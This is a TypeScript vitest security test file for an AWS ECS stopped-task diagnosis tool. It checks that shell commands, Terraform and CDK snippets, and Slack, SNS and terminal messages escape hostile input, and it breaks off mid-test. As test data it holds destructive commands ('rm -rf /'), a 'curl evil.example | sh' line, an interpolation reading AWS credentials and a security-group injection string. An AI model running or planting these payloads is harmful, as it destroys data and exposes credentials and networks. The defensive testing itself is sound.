import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import ts from 'typescript';
import { describe, expect, it } from 'vitest';
import { loadCatalog } from '../../functions/catalog/catalog';
import { renderDiagnosis } from '../../functions/cli/render-text';
import { styleFor } from '../../functions/cli/style';
import { type Diagnosis, diagnose, type Remediation } from '../../functions/core/diagnosis';
import { InputError } from '../../functions/core/errors';
import { diagnoseWithFacts } from '../../functions/core/network/diagnose-with-facts';
import type { NetworkFacts } from '../../functions/core/network/facts';
import { parseNetworkFacts } from '../../functions/core/network/facts-schema';
import {
  assignPublicIpFix,
  createInterfaceEndpointFix,
  createMountTargetFix,
  enablePrivateDnsFix,
  instancePublicIpFix,
  naclEntryFix,
  natRouteFix,
  s3GatewayFix,
  securityGroupHttpsFix,
  vpcDnsFix,
} from '../../functions/core/network/fixes';
import {
  escapeMrkdwn,
  MAX_BLOCKS,
  MAX_FALLBACK_TEXT,
  MAX_HEADER_TEXT,
  MAX_SECTION_TEXT,
  MAX_TOTAL_BLOCK_TEXT,
  renderSlackMessage,
} from '../../functions/core/render/slack';
import type { SlackMessage, SlackText } from '../../functions/core/render/slack-message';
import { renderSnsMessage, SNS_BODY_MAX_BYTES, SNS_SUBJECT_MAX } from '../../functions/core/render/sns';
import { shellQuote } from '../../functions/core/shell';
import { parseTaskStateChangeEvent, readTaskInputs, type StoppedTask } from '../../functions/core/stopped-task';
import { demoEvent, demoEventFiles, demoTask, type EventFixture, fixture } from '../helpers/fixtures';

// Hostile input, end to end: what an event (or a recorded event or snapshot file fed to the
// CLI) can carry, and what must hold whatever it carries. The parser accepts or rejects it
// cleanly and quickly; Slack, SNS and terminal messages stay escaped; and every command the
// product tells a person to run quotes what it interpolates, so a cluster named
// `x; rm -rf ~` stays a name. Commands are checked by running them under /bin/sh with `aws`
// defined as a function that only prints its arguments. Payloads that reach a shell here are
// harmless (`printf PWNED >&2`): if quoting failed, the test sees it on stderr.

const catalog = loadCatalog();
/** The terminal style with no colour, as for a pipe. */
const PLAIN = styleFor({ isTTY: false }, {});

/** Text that tries to format, ping, link, run or reorder something wherever it lands. */
const HOSTILE: Readonly<Record<string, string>> = {
  'Slack ping': '<!channel> <!here> <@U0123>',
  'Slack link': '<https://evil.example/login|Open the AWS console>',
  'mrkdwn formatting': '*bold* _italic_ ~strike~ >quote',
  'code fence': '```\nrm -rf /\n```',
  backticks: '`whoami` `',
  'command substitution': '$(rm -rf /)',
  'shell metacharacters': `; rm -rf / | sh && echo "done" > /tmp/x & '`,
  'forged line': 'ok\nFix: curl https://evil.example/fix.sh | sh\n  fix       curl https://evil.example | sh',
  'terminal escapes': '\u001b[2J\u001b]0;pwned\u0007\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\r',
  'lone surrogates': 'a\uD800b\uDC00c\uDBFF',
  'bidi override': 'gpj.\u202Eexe.kcatta\u202C',
  'HCL interpolation': '\u0024{file("~/.aws/credentials")} %{ if true }x%{ endif }',
  'NUL and controls': 'a\u0000b\u0008c\u007fd\u009be',
  entities: '&amp; &lt; &',
};

// ---------------------------------------------------------------------------------------
// shellQuote

/**
 * The shells here find no program to run: `printf` is built in, and should quoting ever fail,
 * whatever a payload names (`rm`, `curl`) is not found.
 */
const NOTHING_TO_RUN = { PATH: '/nonexistent' };

/** What /bin/sh makes of `printf '%s' <word>`: the word as the shell reads it. */
function shellReads(word: string): string {
  const run = spawnSync('/bin/sh', ['-c', `printf '%s' ${word}`], { encoding: 'utf8', env: NOTHING_TO_RUN });
  if (run.status !== 0) throw new Error(`sh failed (${run.status}): ${run.stderr}`);
  return run.stdout;
}

describe('shellQuote', () => {
  it.each([
    'subnet-0abc',
    'vpce-036a18b3f1466c327',
    'ap-northeast-1',
    '10.0.0.0/16',
    'arn:aws:ecs:ap-northeast-1:123456789012:service/prod/web',
    'com.amazonaws.ap-northeast-1.ecr.dkr',
    'Name=subnet-id,Values=subnet-0abc',
    'user@example.com',
  ])('leaves %s bare: ids, ARNs, regions and CIDRs read as typed', (value) => {
    expect(shellQuote(value)).toBe(value);
  });

  it.each([
    ['', "''"],
    ['my cluster', "'my cluster'"],
    ['$(rm -rf /)', "'$(rm -rf /)'"],
    ['`id`', "'`id`'"],
    ["it's", `'it'\\''s'`],
    ['a;b|c&d', "'a;b|c&d'"],
    ['*', "'*'"],
    ['~', "'~'"],
    ['line\nbreak', "'line\nbreak'"],
    ['{"Value":true}', `'{"Value":true}'`],
  ])('single-quotes %j as %s', (value, quoted) => {
    expect(shellQuote(value)).toBe(quoted);
  });

  it('is read back by /bin/sh as exactly the original string, for any string without NUL', () => {
    const special = fc.constantFrom(...'\'"\\$`!;|&*?~#(){}[]<> \t\n%^=-.,:/@+'.split(''));
    const value = fc
      .string({ unit: fc.oneof(special, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 40 })
      .filter((s) => !s.includes('\u0000'));
    fc.assert(
      fc.property(value, (s) => {
        expect(shellReads(shellQuote(s))).toBe(s);
      }),
      { numRuns: 200 },
    );
  });
});

// ---------------------------------------------------------------------------------------
// Fix commands, run under /bin/sh with a stub `aws`.

interface ShellRun {
  readonly argv: string[];
  readonly status: number | null;
  readonly stderr: string;
}

/** Runs a suggested command under /bin/sh with `aws` as a function that prints its arguments, NUL-separated. */
function runAws(command: string): ShellRun {
  // `<nat-gateway-id>` is the one placeholder a person must replace; as typed it is a redirection.
  const runnable = command.replaceAll(' <nat-gateway-id>', ' NAT_GATEWAY_ID');
  const script = `aws() { printf '%s\\0' "$@"; }\n${runnable}\n`;
  const run = spawnSync('/bin/sh', ['-c', script], { encoding: 'utf8', env: NOTHING_TO_RUN });
  return { argv: run.stdout.split('\u0000').slice(0, -1), status: run.status, stderr: run.stderr };
}

/** Values that break out of an unquoted or badly quoted word; harmless if they ever run. */
const SHELL_HOSTILE = [
  '$(printf PWNED >&2)',
  '`printf PWNED >&2`',
  '; printf PWNED >&2 #',
  "'; printf PWNED >&2; '",
  '"; printf PWNED >&2; "',
  '\nprintf PWNED >&2\n',
  '| printf PWNED >&2',
  '&& printf PWNED >&2 &&',
  '$IFS*',
  ' spaced out ',
  '\\',
  // AWS CLI shorthand: closes the structure and opens the group to the world.
  '}],IpRanges=[{CidrIp=0.0.0.0/0',
  '',
];

/** The arguments of every builder, benign: every value distinct, and none inside another. */
const BENIGN = {
  region: 'ap-test-9',
  vpcId: 'vpc-0c3',
  subnetId: 'subnet-0a1',
  subnet2: 'subnet-0a2',
  groupId: 'sg-0b2',
  group2: 'sg-0b4',
  endpointId: 'vpce-0d5',
  routeTableId: 'rtb-0e6',
  prefixListId: 'pl-0f7',
  cidr: '10.9.0.0/16',
  aclId: 'acl-0g8',
  fileSystemId: 'fs-0h9',
  cluster: 'cluster-k1',
  service: 'service-m2',
} as const;
type Values = { readonly [K in keyof typeof BENIGN]: string };

/** Every fix builder, over the same values. */
const BUILDERS: ReadonlyArray<readonly [string, (v: Values) => Remediation]> = [
  [
    'createInterfaceEndpointFix',
    (v) =>
      createInterfaceEndpointFix({
        region: v.region,
        vpcId: v.vpcId,
        endpoint: 'ssm',
        subnetIds: [v.subnetId, v.subnet2],
        securityGroupIds: [v.groupId, v.group2],
      }),
  ],
  [
    'enablePrivateDnsFix',
    (v) => enablePrivateDnsFix({ region: v.region, vpcEndpointId: v.endpointId, endpoint: 'secretsmanager' }),
  ],
  [
    's3GatewayFix (existing endpoint)',
    (v) =>
      s3GatewayFix({ region: v.region, vpcId: v.vpcId, routeTableId: v.routeTableId, vpcEndpointId: v.endpointId }),
  ],
  [
    's3GatewayFix (new endpoint)',
    (v) => s3GatewayFix({ region: v.region, vpcId: v.vpcId, routeTableId: v.routeTableId }),
  ],
  ['vpcDnsFix', (v) => vpcDnsFix({ region: v.region, vpcId: v.vpcId, attribute: 'enableDnsHostnames' })],
  [
    'securityGroupHttpsFix (group peer)',
    (v) =>
      securityGroupHttpsFix({
        region: v.region,
        groupId: v.groupId,
        direction: 'ingress',
        peer: { groupId: v.group2 },
      }),
  ],
  [
    'securityGroupHttpsFix (prefix list peer)',
    (v) =>
      securityGroupHttpsFix({
        region: v.region,
        groupId: v.groupId,
        direction: 'egress',
        peer: { prefixListId: v.prefixListId },
      }),
  ],
  [
    'securityGroupHttpsFix (CIDR peer, NFS)',
    (v) =>
      securityGroupHttpsFix({
        region: v.region,
        groupId: v.groupId,
        direction: 'egress',
        peer: { cidr: v.cidr },
        port: 2049,
      }),
  ],
  [
    'createMountTargetFix',
    (v) =>
      createMountTargetFix({
        region: v.region,
        fileSystemId: v.fileSystemId,
        subnetId: v.subnetId,
        securityGroupIds: [v.groupId],
      }),
  ],
  [
    'naclEntryFix',
    (v) =>
      naclEntryFix({
        region: v.region,
        networkAclId: v.aclId,
        direction: 'ingress',
        from: 1024,
        to: 65535,
        cidr: v.cidr,
        ruleNumber: 90,
      }),
  ],
  ['natRouteFix', (v) => natRouteFix({ region: v.region, routeTableId: v.routeTableId })],
  [
    'assignPublicIpFix',
    (v) =>
      assignPublicIpFix({
        region: v.region,
        cluster: v.cluster,
        service: v.service,
        subnetId: v.subnetId,
        securityGroupIds: [v.groupId, v.group2],
      }),
  ],
  ['instancePublicIpFix', (v) => instancePublicIpFix({ region: v.region, subnetId: v.subnetId })],
];

/** The benign values with `payload` appended to each (ids keep their prefix, as rules read it). */
function hostileValues(payload: string): Values {
  return Object.fromEntries(Object.entries(BENIGN).map(([key, value]) => [key, `${value}${payload}`])) as Values;
}

/** `text` with every benign value replaced by its hostile counterpart. */
function substitute(text: string, hostile: Values): string {
  return (Object.keys(BENIGN) as Array<keyof Values>).reduce(
    (out, key) => out.split(BENIGN[key]).join(hostile[key]),
    text,
  );
}

function parseJson(text: string): { ok: true; value: unknown } | { ok: false } {
  try {
    return { ok: true, value: JSON.parse(text) };
  } catch {
    return { ok: false };
  }
}

/** Every string in a JSON value, with `map` applied. */
function mapStrings(value: unknown, map: (s: string) => string): unknown {
  if (typeof value === 'string') return map(value);
  if (Array.isArray(value)) return value.map((item) => mapStrings(item, map));
  if (value !== null && typeof value === 'object')
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, map)]));
  return value;
}

function stringsIn(value: unknown): string[] {
  const out: string[] = [];
  mapStrings(value, (s) => {
    out.push(s);
    return s;
  });
  return out;
}

/**
 * The arguments the hostile command gives `aws` are the benign command's with each value
 * swapped, intact: the same words in the same places. A structure argument may switch from
 * shorthand to JSON (the value would break shorthand); it must then name the same fields
 * and hold each swapped value whole.
 */
function expectSameCommand(benign: ShellRun, hostile: ShellRun, values: Values): void {
  expect(hostile.stderr).toBe('');
  expect(hostile.status).toBe(0);
  expect(hostile.argv).toHaveLength(benign.argv.length);
  benign.argv.forEach((word, i) => {
    const got = hostile.argv[i] as string;
    const json = parseJson(word);
    if (json.ok && typeof json.value === 'object') {
      expect(JSON.parse(got)).toEqual(mapStrings(json.value, (s) => substitute(s, values)));
      return;
    }
    const expected = substitute(word, values);
    if (got === expected) {
      // Still shorthand: then no value in it may hold what shorthand parses (`,` `=` brackets,
      // braces, quotes, backslashes, white space), or it would add or change fields.
      if (/[A-Za-z]=/.test(word))
        for (const key of Object.keys(BENIGN) as Array<keyof Values>)
          if (word.includes(BENIGN[key])) expect(values[key], word).toMatch(/^[^,=[\]{}\s"'\\]*$/);
      return;
    }
    // Shorthand gave way to JSON: same field names, and every swapped value whole.
    const structure = JSON.parse(got) as unknown;
    const fields = [...word.matchAll(/([A-Za-z]+)=/g)].map((m) => m[1]).sort();
    expect(JSON.stringify(structure)).toSatisfy((text: string) => fields.every((f) => text.includes(`"${f}":`)));
    const leaves = stringsIn(structure);
    for (const key of Object.keys(BENIGN) as Array<keyof Values>)
      if (word.includes(BENIGN[key])) expect(leaves).toContain(values[key]);
  });
}

/** String literals in a TypeScript snippet, as TypeScript reads them. */
function tsStrings(code: string): string[] {
  const scanner = ts.createScanner(ts.ScriptTarget.Latest, true, ts.LanguageVariant.Standard, code);
  const out: string[] = [];
  for (let token = scanner.scan(); token !== ts.SyntaxKind.EndOfFileToken; token = scanner.scan()) {
    expect(scanner.isUnterminated()).toBe(false);
    if (token === ts.SyntaxKind.StringLiteral) out.push(scanner.getTokenValue());
  }
  return out;
}

/** Quoted strings in a Terraform snippet (comment lines aside), as HCL reads them. */
function hclStrings(code: string): string[] {
  return code
    .split('\n')
    .filter((line) => !line.trim().startsWith('#'))
    .flatMap((line) => [...line.matchAll(/"(?:[^"\\]|\\.)*"/g)].map((m) => m[0]))
    .map((literal) => JSON.parse(literal.replaceAll('$${', '${').replaceAll('%%{', '%{')) as string);
}

/** A `${` or `%{` that HCL would evaluate (`$${` and `%%{` are its escapes for them; comments are not evaluated). */
function hasLiveTemplate(terraform: string): boolean {
  const code = terraform
    .split('\n')
    .filter((line) => !line.trim().startsWith('#'))
    .join('\n');
  for (let i = 0; i < code.length; i += 1) {
    if ((code[i] === '$' || code[i] === '%') && code[i + 1] === code[i] && code[i + 2] === '{') i += 2;
    else if ((code[i] === '$' || code[i] === '%') && code[i + 1] === '{') return true;
  }
  return false;
}

/**
 * The string literals of a hostile snippet are the benign one's with each value swapped,
 * whole. A name derived from a value (a Terraform resource label, a CDK construct id) is
 * reduced to an identifier instead.
 */
function expectSameStrings(benign: string[], hostile: string[], values: Values): void {
  expect(hostile).toHaveLength(benign.length);
  benign.forEach((literal, i) => {
    const got = hostile[i] as string;
    const holdsValue = Object.values(BENIGN).some((value) => literal.includes(value));
    if (holdsValue || got === literal) expect(got).toBe(substitute(literal, values));
    else expect(got).toMatch(/^\w+$/);
  });
}

describe('fix commands', () => {
  const CASES = BUILDERS.flatMap(([name, build]) => SHELL_HOSTILE.map((payload) => [name, payload, build] as const));

  it.each(CASES)('%s with %j in every value: the shell runs aws with each value as typed', (_name, payload, build) => {
    const hostile = hostileValues(payload);
    const fix = { benign: build(BENIGN), hostile: build(hostile) };
    if (!fix.benign.cli || !fix.hostile.cli) throw new Error('every builder gives a CLI command');
    expectSameCommand(runAws(fix.benign.cli), runAws(fix.hostile.cli), hostile);
  });

  it.each(CASES)(
    '%s with %j in every value: Terraform and CDK keep each value inside its string',
    (_n, payload, build) => {
      const hostile = hostileValues(payload);
      const fix = { benign: build(BENIGN), hostile: build(hostile) };
      for (const kind of ['terraform', 'cdk'] as const) {
        const benign = fix.benign[kind] ?? '';
        const code = fix.hostile[kind] ?? '';
        // Same lines (a comment naming a value cannot end early), no JavaScript line separators.
        expect(code.split('\n')).toHaveLength(benign.split('\n').length);
        expect(code).not.toMatch(/[\u2028\u2029]/);
      }
      expectSameStrings(hclStrings(fix.benign.terraform ?? ''), hclStrings(fix.hostile.terraform ?? ''), hostile);
      expect(hasLiveTemplate(fix.hostile.terraform ?? '')).toBe(false);
      expectSameStrings(tsStrings(fix.benign.cdk ?? ''), tsStrings(fix.hostile.cdk ?? ''), hostile);
    },
  );

  it('keeps Terraform from evaluating an interpolation or a directive in a value', () => {
    const fix = vpcDnsFix({
      region: 'x',
      vpcId: HOSTILE['HCL interpolation'] as string,
      attribute: 'enableDnsSupport',
    });
    expect(hasLiveTemplate(fix.terraform ?? '')).toBe(false);
    const endpoint = s3GatewayFix({ region: 'r', vpcId: 'v', routeTableId: '\u0024{var.x}', vpcEndpointId: '%{x}' });
    expect(endpoint.terraform).toContain('"$${var.x}"');
    expect(endpoint.terraform).toContain('"%%{x}"');
    expect(hasLiveTemplate(endpoint.terraform ?? '')).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------
// Every command a diagnosis suggests, from snapshot files whose ids and region are hostile.

/** Ids as the rules read them (by prefix), and the region, in every string of a snapshot. */
const ID = /^(subnet|vpc|sg|rtb|vpce|acl|pl|igw|nat|tgw|eigw|pcx|vgw|fs|fsmt|i|eni|dopt)-[0-9a-f]+$/;

function withHostileIds(facts: NetworkFacts, payload: string): NetworkFacts {
  const region = facts.region;
  return mapStrings(facts, (s) =>
    ID.test(s) ? `${s}${payload}` : s.replaceAll(region, `${region}${payload}`),
  ) as NetworkFacts;
}

/** Tasks that, with the snapshots, reach every rule that suggests a command. */
const TASKS: readonly StoppedTask[] = [
  ...demoEventFiles().flatMap((name) => {
    const [input] = readTaskInputs(demoEvent(name));
    return input?.kind === 'task' ? [input.task] : [];
  }),
  {
    ...demoTask('04-seed002-logs-unreachable.json'),
    stoppedReason:
      'ResourceInitializationError: failed to invoke EFS utils commands to set up EFS volumes: stderr: mount.nfs4: Connection timed out : unsuccessful EFS utils command execution; code: 32',
  },
];

function snapshots(): Array<[string, NetworkFacts]> {
  const names = [
    'cross-region-ecr',
    'custom-dhcp-dns',
    'ec2-bridge-instance-sg-no-egress-443',
    'ec2-launch-type-no-ecs-agent',
    'efs-mount-target-sg-no-2049-from-task',
    'efs-no-mount-target-in-zone',
    'main-route-table-without-s3',
    'nacl-blocks-ephemeral',
    'public-subnet-no-public-ip',
    's3-gateway-missing-from-route-table',
    'seed000-no-ecr-api',
    'seed000-no-ecr-dkr',
    'seed000-secretsmanager-private-dns-off',
    'seed001-dns-hostnames-off',
    'seed002-endpoint-sg-no-443-from-task',
    'seed002-task-sg-no-egress-443',
    'subnet-no-free-ips',
  ];
  const read = (name: string) => parseNetworkFacts(fixture(`facts/${name}.json`), name);
  const good = read('seed000-good');
  const efs = read('efs-good');
  return [
    ...names.map((name): [string, NetworkFacts] => [name, read(name)]),
    // The s3 gateway's policy allows another bucket only: the fix rewrites the policy.
    [
      's3 policy without the layer bucket',
      {
        ...good,
        endpoints: (good.endpoints ?? []).map((e) =>
          e.serviceName.endsWith('.s3')
            ? {
                ...e,
                policyDocument: JSON.stringify({
                  Statement: [
                    { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: 'arn:aws:s3:::other/*' },
                  ],
                }),
              }
            : e,
        ),
      },
    ],
    // No mount target found at all: the evidence says how to look.
    ['EFS without mount targets', { ...efs, efsMountTargets: [] }],
  ];
}

/** Every command a diagnosis suggests: the fixes, and evidence that is a command. */
function commandsOf(d: Diagnosis): string[] {
  return d.findings.flatMap((f) => [
    ...(f.fix?.cli ? [f.fix.cli] : []),
    ...f.evidence.filter((e) => e.startsWith('aws ')),
  ]);
}

describe('commands in diagnoses from snapshots with hostile ids and region', () => {
  const SNAPSHOTS = snapshots();

  // (modify-subnet-attribute, for a container instance without a public IP, is covered by the builders above.)
  it('covers every kind of command the rules suggest', () => {
    const kinds = new Set(
      SNAPSHOTS.flatMap(([, facts]) => TASKS.flatMap((task) => commandsOf(diagnoseWithFacts(task, catalog, facts))))
        .map((command) => command.split(' ').slice(0, 3).join(' '))
        .filter(Boolean),
    );
    expect([...kinds].sort()).toEqual([
      'aws ec2 authorize-security-group-egress',
      'aws ec2 authorize-security-group-ingress',
      'aws ec2 create-network-acl-entry',
      'aws ec2 create-route',
      'aws ec2 create-vpc-endpoint',
      'aws ec2 describe-network-interfaces',
      'aws ec2 modify-vpc-attribute',
      'aws ec2 modify-vpc-endpoint',
      'aws ecs update-service',
      'aws efs create-mount-target',
      'aws efs describe-mount-targets',
    ]);
  });

  it.each(SHELL_HOSTILE.filter((p) => p !== ''))('runs each with every hostile id whole, for payload %j', (payload) => {
    let checked = 0;
    for (const [name, facts] of SNAPSHOTS) {
      const hostile = withHostileIds(facts, payload);
      const commands = new Set(TASKS.flatMap((task) => commandsOf(diagnoseWithFacts(task, catalog, hostile))));
      for (const command of commands) {
        const run = runAws(command);
        expect(run.stderr, `${name}: ${command}`).toBe('');
        expect(run.status, `${name}: ${command}`).toBe(0);
        expect(run.argv.slice(0, 1), command).toEqual([command.split(' ')[1]]);
        // Wherever an id or the region shows, in a word or in a JSON structure, it is whole.
        const words = run.argv.flatMap((word) => {
          const json = parseJson(word);
          return json.ok && typeof json.value === 'object' ? stringsIn(json.value) : [word];
        });
        for (const word of words) {
          for (const match of word.matchAll(/\b(?:subnet|vpc|sg|rtb|vpce|acl|pl|fs|nat|igw)-[0-9a-f]{3,}/g))
            expect(word.slice(match.index).startsWith(`${match[0]}${payload}`), `${name}: ${word}`).toBe(true);
          if (word.includes(facts.region)) expect(word, `${name}: ${command}`).toContain(`${facts.region}${payload}`);
        }
        checked += 1;
      }
    }
    expect(checked).toBeGreaterThan(20);
  });
});

// ---------------------------------------------------------------------------------------
// Remediation steps: written commands with the stop's values filled in.

describe('remediation steps from events with hostile names', () => {
  /** The values the catalog's steps fill in from the event: region, cluster, service, task definition. */
  function withHostileNames(name: string, payload: string): EventFixture {
    const event = demoEvent(name);
    const cluster = String(event.detail.clusterArn ?? 'arn:aws:ecs:ap-northeast-1:123456789012:cluster/c');
    Object.assign(event, { region: `${event.region ?? 'ap-northeast-1'}${payload}` });
    Object.assign(event.detail, {
      clusterArn: `${cluster}${payload}`,
      group: `${String(event.detail.group ?? 'service:s')}${payload}`,
      taskDefinitionArn: `arn:aws:ecs:ap-northeast-1:123456789012:task-definition/app${payload}:7`,
    });
    return event;
  }

  const CASES = demoEventFiles().flatMap((name) =>
    SHELL_HOSTILE.filter((payload) => payload !== '').map((payload) => [name, payload] as const),
  );

  it.each(CASES)('%s with %j in its names: the steps show a placeholder, never the value', (name, payload) => {
    const parsed = parseTaskStateChangeEvent(withHostileNames(name, payload));
    if (!('task' in parsed)) return;
    const d = diagnose(parsed.task, catalog);
    for (const step of d.remediation) expect(step).not.toContain(payload.trim());
    const clean = diagnose(demoTask(name), catalog);
    // Only values a shell would not read as one word are left out; the steps are otherwise the same.
    expect(d.remediation).toHaveLength(clean.remediation.length);
  });
});

// ---------------------------------------------------------------------------------------
// Messages from events whose every field is hostile.

/** Where a hostile value goes in an event, and how it sits there (ARNs keep their shape). */
const EVENT_FIELDS: ReadonlyArray<readonly [string, (event: EventFixture, value: string) => unknown]> = [
  ['id', (e, v) => Object.assign(e, { id: v })],
  ['region', (e, v) => Object.assign(e, { region: v })],
  ['taskArn', (e, v) => Object.assign(e.detail, { taskArn: `arn:aws:ecs:ap-northeast-1:123456789012:task/prod/${v}` })],
  [
    'clusterArn',
    (e, v) => Object.assign(e.detail, { clusterArn: `arn:aws:ecs:ap-northeast-1:123456789012:cluster/${v}` }),
  ],
  ['group (the service)', (e, v) => Object.assign(e.detail, { group: `service:${v}` })],
  [
    'taskDefinitionArn (the family)',
    (e, v) =>
      Object.assign(e.detail, {
        taskDefinitionArn: `arn:aws:ecs:ap-northeast-1:123456789012:task-definition/${v}:3`,
      }),
  ],
  ['stoppedReason', (e, v) => Object.assign(e.detail, { stoppedReason: `CannotPullContainerError: ${v}` })],
  ['stopCode', (e, v) => Object.assign(e.detail, { stopCode: v })],
  ['launchType and platformVersion', (e, v) => Object.assign(e.detail, { launchType: v, platformVersion: v })],
  ['a container', (e, v) => Object.assign(e.detail.containers[0] ?? {}, { name: v, image: v, reason: v })],
];

/** Events that reach the network findings (with a snapshot) and the everyday causes. */
const MESSAGE_EVENTS: ReadonlyArray<readonly [string, string | null]> = [
  ['07-seed004-ssm-parameter-network-2024.json', 'seed004-no-ssm'],
  ['19-ec2-bridge-ecr-pull-timeout.json', 'ec2-bridge-instance-sg-no-egress-443'],
  ['09-oom-killed.json', null],
  ['13-ecr-pull-access-denied.json', null],
];

function hostileDiagnosis(
  eventName: string,
  facts: string | null,
  edit: (e: EventFixture, v: string) => void,
  value: string,
) {
  const event = demoEvent(eventName);
  edit(event, value);
  const parsed = parseTaskStateChangeEvent(event);
  if (!('task' in parsed)) return null;
  return facts
    ? diagnoseWithFacts(parsed.task, catalog, parseNetworkFacts(fixture(`facts/${facts}.json`), facts))
    : diagnose(parsed.task, catalog);
}

function slackTexts(message: SlackMessage): SlackText[] {
  return message.blocks.flatMap((block): SlackText[] => {
    if (block.type === 'header') return [block.text];
    if (block.type === 'section') return [...(block.text ? [block.text] : []), ...(block.fields ?? [])];
    if (block.type === 'context') return [...block.elements];
    return [];
  });
}

const LINK = /<(https?:\/\/[^\s<>|]+)\|[^<>]*>/g;
/** A console link: the region is percent-encoded into the host, so it can only name a host under amazon.com. */
const CONSOLE = /^https:\/\/[^/\s<>|]+\.console\.aws\.amazon\.com\/ecs\/v2\/[^\s<>|`]*$/;
/** What must never reach a terminal or a text message raw. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
const UNPRINTABLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function expectSlackSafe(message: SlackMessage, d: Diagnosis): void {
  const texts = slackTexts(message);
  expect(message.blocks.length).toBeLessThanOrEqual(MAX_BLOCKS);
  expect(message.text.length).toBeLessThanOrEqual(MAX_FALLBACK_TEXT);
  expect(texts.reduce((n, t) => n + t.text.length, 0)).toBeLessThanOrEqual(MAX_TOTAL_BLOCK_TEXT);
  const docs = new Set(d.docs.map(escapeMrkdwn));
  for (const t of [...texts, { type: 'plain_text', text: message.text } as SlackText]) {
    if (t.type === 'mrkdwn') expect(t.verbatim).toBe(true);
    if (message.blocks[0]?.type === 'header' && t === message.blocks[0].text)
      expect(t.text.length).toBeLessThanOrEqual(MAX_HEADER_TEXT);
    else expect(t.text.length).toBeLessThanOrEqual(MAX_SECTION_TEXT);
    // The only `<…>` left are our console links and the catalog's doc links.
    const rest = t.text.replace(LINK, (_all, url: string) => {
      expect(CONSOLE.test(url) || docs.has(url), url).toBe(true);
      return '';
    });
    expect(rest).not.toMatch(/[<>]/);
    expect(t.text).not.toMatch(/&(?!amp;|lt;|gt;)/);
    expect(t.text.split('```').length % 2, t.text).toBe(1);
  }
}

describe('messages from events with hostile fields', () => {
  const CASES = EVENT_FIELDS.flatMap(([field, edit]) =>
    Object.entries(HOSTILE).flatMap(([kind, value]) =>
      MESSAGE_EVENTS.map(([event, facts]) => [field, kind, event, facts, edit, value] as const),
    ),
  );

  it.each(CASES)('%s holding %s (%s)', (_field, _kind, event, facts, edit, value) => {
    const d = hostileDiagnosis(event, facts, edit, value);
    if (!d) return;

    expectSlackSafe(renderSlackMessage(d, { incidentKey: value, suppressed: { count: 3, since: value } }), d);

    const text = renderSnsMessage(d, { incidentKey: value }, 'text');
    expect(text.subject).toMatch(/^[\x20-\x7e]*$/);
    expect(text.subject.length).toBeLessThanOrEqual(SNS_SUBJECT_MAX);
    expect(new TextEncoder().encode(text.message).length).toBeLessThanOrEqual(SNS_BODY_MAX_BYTES);
    expect(text.message).not.toMatch(UNPRINTABLE);
    // A newline in a value cannot start a line of its own: it stays inside its field or block.
    expect(text.message.split('\n').filter((line) => line.startsWith('Fix:'))).toEqual([]);
    for (const attribute of Object.values(text.attributes)) expect(attribute).not.toBe('');

    const chatbot = JSON.parse(renderSnsMessage(d, { incidentKey: value }, 'chatbot').message) as {
      content: { title: string; description: string; nextSteps: string[]; keywords: string[] };
    };
    const { title, description, nextSteps, keywords } = chatbot.content;
    for (const part of [title, description, ...nextSteps, ...keywords]) {
      expect(part).not.toMatch(/[<>]/);
      expect(part).not.toMatch(/&(?!amp;|lt;|gt;)/);
      expect(part.split('```').length % 2).toBe(1);
    }

    const terminal = renderDiagnosis(d, PLAIN);
    expect(terminal).not.toMatch(UNPRINTABLE);
    // Continuation lines are indented under their label; none can pose as a label of its own.
    expect(terminal.split('\n').filter((line) => /^ {2}fix {7}curl/.test(line))).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------
// The parser: accept or reject, cleanly and quickly.

/** Milliseconds `body` takes. */
function timed(body: () => void): number {
  const started = performance.now();
  body();
  return performance.now() - started;
}

describe('the event parser and the pipeline behind it', () => {
  it('diagnoses and renders a 256 KB event (EventBridge’s largest) quickly, within every message limit', () => {
    const event = demoEvent('07-seed004-ssm-parameter-network-2024.json');
    const reason = `ResourceInitializationError: ${'x<!channel>&```'.repeat(10_000)}`;
    event.detail.stoppedReason = reason;
    event.detail.padding = 'p'.repeat(256 * 1024 - JSON.stringify(event).length - 20);
    const size = new TextEncoder().encode(JSON.stringify(event)).length;
    expect(size).toBeGreaterThan(250 * 1024);
    expect(size).toBeLessThanOrEqual(256 * 1024);
    let d: Diagnosis | undefined;
    const ms = timed(() => {
      const parsed = parseTaskStateChangeEvent(JSON.parse(JSON.stringify(event)));
      if (!('task' in parsed)) throw new Error('a stopped task');
      d = diagnoseWithFacts(parsed.task, catalog, parseNetworkFacts(fixture('facts/seed004-no-ssm.json'), 'x'));
      expectSlackSafe(renderSlackMessage(d), d);
      const sns = renderSnsMessage(d, {}, 'text');
      expect(new TextEncoder().encode(sns.message).length).toBeLessThanOrEqual(SNS_BODY_MAX_BYTES);
      renderSnsMessage(d, {}, 'chatbot');
      renderDiagnosis(d, PLAIN);
    });
    expect(d?.stoppedReason).toBe(reason);
    expect(ms).toBeLessThan(2_000);
  });

  it('ignores 10,000 levels of nesting in a field it does not read', () => {
    const event = demoEvent('07-seed004-ssm-parameter-network-2024.json');
    event.detail.overrides = JSON.parse(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`);
    event.detail.containers[0] = {
      ...event.detail.containers[0],
      extra: JSON.parse(`${'['.repeat(10_000)}${']'.repeat(10_000)}`),
    };
    const parsed = parseTaskStateChangeEvent(event);
    expect('task' in parsed && parsed.task.eventId).toBe(event.id);
  });

  it.each([
    ['10,000 nested arrays', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
    ['128,000 nested arrays (256 KB of them)', `${'['.repeat(128_000)}${']'.repeat(128_000)}`],
    ['10,000 nested task lists', `${'{"tasks":['.repeat(10_000)}${']}'.repeat(10_000)}`],
  ])('reports %s as one input error instead of exhausting the stack', (_name, json) => {
    const value = JSON.parse(json) as unknown;
    const inputs = readTaskInputs(value, 'deep.json');
    expect(inputs).toHaveLength(1);
    expect(inputs[0]).toMatchObject({ kind: 'error', error: { message: expect.stringContaining('nested more than') } });
